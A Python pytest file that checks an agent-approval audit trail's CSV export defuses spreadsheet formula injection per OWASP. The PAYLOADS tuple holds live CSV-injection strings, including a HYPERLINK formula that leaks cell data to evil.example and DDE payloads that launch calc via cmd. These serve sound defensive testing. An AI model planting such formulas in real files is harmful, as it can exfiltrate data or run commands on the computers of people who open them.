"""The audit CSV opens as text in a spreadsheet: a cell that would start with a formula character (`=`, `+`, `-`,
`@`, tab, carriage return, line feed) starts with a single quote instead, every cell is quoted, and nothing else
changes, as OWASP's "CSV Injection" page asks (https://owasp.org/www-community/attacks/CSV_Injection). JSON lines
stay exact. The values reach the trail the ways an adversary has: an agent's thread id, a cancel reason, the
`answered_by` of a decision, an untrusted queue sender's `claimed_by`, and a vote's note."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from agent_wait import Question, WaitEnvelope, WaitPolicy
from agent_wait.common.times import format_rfc3339
from agent_wait.contract.schema import QuestionStatus
from agent_wait.engine.audit import AUDIT_COLUMNS, audit_rows, audit_window, write_audit
from agent_wait.ledger import Decision, InMemoryLedger
from agent_wait.ledger.records import Progress, Vote

NOW = datetime(2030, 1, 31, 15, 0, tzinfo=UTC)
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the refund")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)
"""The seven formula payloads of issue 40: each makes a live formula when a spreadsheet opens a cell that starts so."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
JSON_COLUMNS = {"question", "allowed_actions", "tags", "args", "approved_args", "answer", "votes"}


def _envelope(thread_id: str, number: int, *, quorum: int | None = None) -> WaitEnvelope:
    policy = WaitPolicy(
        timeout="P7D", default={"action": "reject"}, allowed_actions=("approve", "reject"), quorum=quorum
    )
    question = Question(thread_id, f"q-{number}", {"amount": 42}, policy, asked_at=NOW - timedelta(hours=number + 1))
    return WaitEnvelope.create(question)


def _hostile_ledger() -> InMemoryLedger:
    """Three questions carrying the seven payloads where people and agents can put them."""
    ledger = InMemoryLedger()
    decided = NOW - timedelta(minutes=10)
    # An agent's thread id, cancelled by a person whose recorded name and reason are formulas.
    cancelled = _envelope(PAYLOADS[0], 1)
    ledger.open(cancelled, now=NOW - timedelta(hours=2), unannounced=False)
    cancel = Decision(
        QuestionStatus.CANCELLED, {"action": "reject"}, "c-1", answered_by=PAYLOADS[2], via="api", reason=PAYLOADS[1]
    )
    ledger.decide(cancelled.thread_id, cancelled.question_id, cancel, now=decided)
    # An untrusted queue sender's claim beside the transport's own identity.
    claimed = _envelope("order-2", 2)
    ledger.open(claimed, now=NOW - timedelta(hours=3), unannounced=False)
    answer = Decision(
        QuestionStatus.ANSWERED,
        {"action": "approve"},
        "a-2",
        answered_by=PAYLOADS[4],
        sender="AROAEXAMPLE:agent",
        via="queue",
        claimed_by=PAYLOADS[3],
    )
    ledger.decide(claimed.thread_id, claimed.question_id, answer, now=decided)
    # A quorum vote whose voter and note are formulas (the note sits inside the votes' JSON text).
    voted = _envelope("order-3", 3, quorum=2)
    ledger.open(voted, now=NOW - timedelta(hours=4), unannounced=False)
    vote = Vote(PAYLOADS[5], PAYLOADS[6], {"action": "approve", "note": PAYLOADS[1]}, "v-3", format_rfc3339(decided))
    ledger.advance(
        voted.thread_id,
        voted.question_id,
        Progress(votes=(vote,), version=1),
        expected_version=0,
        due_at=None,
        now=decided,
    )
    return ledger


def _export(ledger: InMemoryLedger, format: str) -> str:
    out = io.StringIO(newline="")
    write_audit(audit_rows(ledger, audit_window("2030-01-01", None, now=NOW)), out, format=format)
    return out.getvalue()


def _as_recorded(column: str, value: Any) -> str:
    """A JSON-lines value as its CSV cell would hold it before any neutralising."""
    if value is None:
        return ""
    if column in JSON_COLUMNS:
        return json.dumps(value, sort_keys=True, separators=(",", ":"))
    return str(value)


def test_a_csv_export_of_formula_payloads_opens_as_text_and_changes_nothing_else() -> None:
    # GIVEN questions whose thread id, cancel reason, answerer, claim and vote hold the seven formula payloads
    ledger = _hostile_ledger()

    # WHEN the trail is exported as CSV and as JSON lines
    cells = list(csv.DictReader(io.StringIO(_export(ledger, "csv"), newline="")))
    lines = [json.loads(line) for line in _export(ledger, "jsonl").splitlines()]

    # THEN every cell that would start a formula starts with a single quote, and every other cell is as recorded
    assert [row["question_id"] for row in cells] == [line["question_id"] for line in lines]
    assert len(cells) == 3
    for row, line in zip(cells, lines, strict=True):
        assert list(row) == list(AUDIT_COLUMNS)
        for column in AUDIT_COLUMNS:
            recorded = _as_recorded(column, line[column])
            expected = "'" + recorded if recorded.startswith(FORMULA_STARTS) else recorded
            assert row[column] == expected, f"{column} of {line['question_id']}"
            assert not row[column].startswith(FORMULA_STARTS), f"{column} of {line['question_id']} is a formula"
    by_id = {row["question_id"]: row for row in cells}
    assert (by_id["q-1"]["thread_id"], by_id["q-1"]["reason"], by_id["q-1"]["answered_by"]) == (
        "'" + PAYLOADS[0],
        "'" + PAYLOADS[1],
        "'" + PAYLOADS[2],
    )
    assert (by_id["q-2"]["claimed_by"], by_id["q-2"]["answered_by"]) == ("'" + PAYLOADS[3], "'" + PAYLOADS[4])
    assert json.loads(by_id["q-3"]["votes"])[0]["answer"]["note"] == PAYLOADS[1]  # inside JSON text: as recorded


def test_a_jsonl_export_keeps_formula_payloads_exact() -> None:
    # GIVEN the same hostile questions
    ledger = _hostile_ledger()

    # WHEN the trail is exported as JSON lines
    lines = {line["question_id"]: line for line in map(json.loads, _export(ledger, "jsonl").splitlines())}

    # THEN every value is the one recorded, not a character added
    assert (lines["q-1"]["thread_id"], lines["q-1"]["reason"], lines["q-1"]["answered_by"]) == PAYLOADS[:3]
    assert (lines["q-2"]["claimed_by"], lines["q-2"]["answered_by"]) == (PAYLOADS[3], PAYLOADS[4])
    assert (lines["q-3"]["votes"][0]["voter"], lines["q-3"]["votes"][0]["by"]) == (PAYLOADS[5], PAYLOADS[6])


@pytest.mark.parametrize(
    ("recorded", "written"),
    [
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),  # OWASP's two examples, byte for byte
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
        ("order-7", '"order-7"'),  # any other cell: quoted, otherwise as recorded
        ("", '""'),
    ],
)
def test_each_csv_cell_is_written_as_owasp_shows(recorded: str, written: str) -> None:
    # GIVEN a row whose thread id is `recorded`
    row = dict.fromkeys(AUDIT_COLUMNS) | {"thread_id": recorded}

    # WHEN it is written as CSV
    out = io.StringIO(newline="")
    write_audit([row], out, format="csv")

    # THEN its cell is wrapped in double quotes, a formula start is prefixed, and double quotes are doubled
    header, line = out.getvalue().splitlines()
    assert header == ",".join(f'"{column}"' for column in AUDIT_COLUMNS)
    assert line.startswith('"",' + written + ",")
